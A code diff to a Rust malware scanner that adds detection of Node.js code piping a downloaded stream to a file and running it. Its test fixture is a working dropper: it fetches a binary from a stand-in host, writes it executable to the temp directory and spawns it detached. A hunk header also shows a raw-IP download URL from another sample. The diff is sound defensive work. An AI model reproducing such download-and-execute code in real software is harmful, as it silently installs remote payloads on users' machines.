@@ -416,18 +416,75 @@ const REPUTABLE_HOSTS: &[&str] = &[
 
 /// A file written with downloaded data (`fs.writeFileSync(file, body)`) and then run: its path
 /// (folded value or variable) in a command, `fork`, `require` or `eval` call.
-fn download_write_run<'a>(file: &'a FileFacts, tracer: &mut Tracer<'a>) -> Option<Finding> {
-    for write in file.calls.iter().filter(|c| signals::is_write_call(c)) {
-        let args = arguments(&write.excerpt);
-        let (Some(path), Some(data)) = (args.first().copied(), args.get(1).copied()) else {
-            continue;
-        };
-        if identifiers(data).is_empty() && marked(data, true).is_none() {
-            continue;
+/// The file a received stream is piped into: `res.pipe(out)` or `pipeline(res, out)` where
+/// `out = fs.createWriteStream(path)`, `res` traced to a response. Returns the
+/// `createWriteStream` call, its path source and the line of the response.
+fn piped_download<'a>(file: &'a FileFacts, tracer: &mut Tracer<'a>) -> Option<(&'a Call, &'a str, u32)> {
+    for stream in file
+        .calls
+        .iter()
+        .filter(|c| signals::method(&c.callee) == "createWriteStream")
+    {
+        let path = arguments(&stream.excerpt).first().copied()?;
+        let line_text = tracer.lines.get(stream.line as usize - 1).copied().unwrap_or("");
+        // `const out = fs.createWriteStream(…)`: the stream's variable.
+        let variable = line_text
+            .split_once('=')
+            .map(|(left, _)| left.trim().rsplit(' ').next().unwrap_or("").trim())
+            .filter(|v| !v.is_empty() && v.chars().all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '$'));
+        for pipe in file
+            .calls
+            .iter()
+            .filter(|c| matches!(signals::method(&c.callee), "pipe" | "pipeline"))
+        {
+            let args = arguments(&pipe.excerpt);
+            let (source, sink) = if signals::method(&pipe.callee) == "pipe" {
+                let receiver = pipe.excerpt.split(".pipe(").next().unwrap_or("");
+                let receiver = receiver
+                    .rsplit(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '$'))
+                    .next()
+                    .unwrap_or("");
+                (receiver, args.first().copied().unwrap_or(""))
+            } else {
+                (args.first().copied().unwrap_or(""), args.get(1).copied().unwrap_or(""))
+            };
+            let into_stream = sink.contains("createWriteStream") && pipe.line == stream.line
+                || variable.is_some_and(|v| sink.trim() == v);
+            if !into_stream || source.is_empty() {
+                continue;
+            }
+            tracer.visited.clear();
+            if let Some((Origin::Received, from)) = tracer.origin(source, 0) {
+                return Some((stream, path, if from > 0 { from } else { pipe.line }));
+            }
         }
-        tracer.visited.clear();
-        let Some((Origin::Received, from_line)) = tracer.origin(data, 0) else {
-            continue;
+    }
+    None
+}
+
+fn download_write_run<'a>(file: &'a FileFacts, tracer: &mut Tracer<'a>) -> Option<Finding> {
+    let piped = piped_download(file, tracer);
+    let writes = file
+        .calls
+        .iter()
+        .filter(|c| signals::is_write_call(c) && signals::method(&c.callee) != "createWriteStream");
+    for write in piped.map(|(stream, _, _)| stream).into_iter().chain(writes) {
+        let args = arguments(&write.excerpt);
+        let (path, from_line) = match piped {
+            Some((stream, path, from)) if std::ptr::eq(stream, write) => (path, from),
+            _ => {
+                let (Some(path), Some(data)) = (args.first().copied(), args.get(1).copied()) else {
+                    continue;
+                };
+                if identifiers(data).is_empty() && marked(data, true).is_none() {
+                    continue;
+                }
+                tracer.visited.clear();
+                let Some((Origin::Received, from_line)) = tracer.origin(data, 0) else {
+                    continue;
+                };
+                (path, from_line)
+            }
         };
         let value = signals::arg_text(write, 0);
         let variable = (!path.contains(['\'', '"', '`', '('])).then_some(path.trim());
@@ -693,6 +750,21 @@ request.get("http://45.61.128.23:1224/client/5346/9", (err, res, body) => {
             Some(Severity::Critical),
             "{:#?}",
             run(manifest)
+        );
+        let piped = r#"const https = require("https"), fs = require("fs"), os = require("os"), path = require("path");
+const { spawn } = require("child_process");
+const bin = path.join(os.tmpdir(), "node-helper");
+https.get("https://cdn.helper-updates.example/latest/linux", (res) => {
+  const out = fs.createWriteStream(bin, { mode: 0o755 });
+  res.pipe(out);
+  out.on("finish", () => spawn(bin, [], { detached: true, stdio: "ignore" }).unref());
+});
+"#;
+        assert_eq!(
+            run(piped).first().map(|f| f.severity),
+            Some(Severity::Critical),
+            "{:#?}",
+            run(piped)
         );
         // A vendor's helper script from its own source host: a lead only.
         let vendor = source.replace(
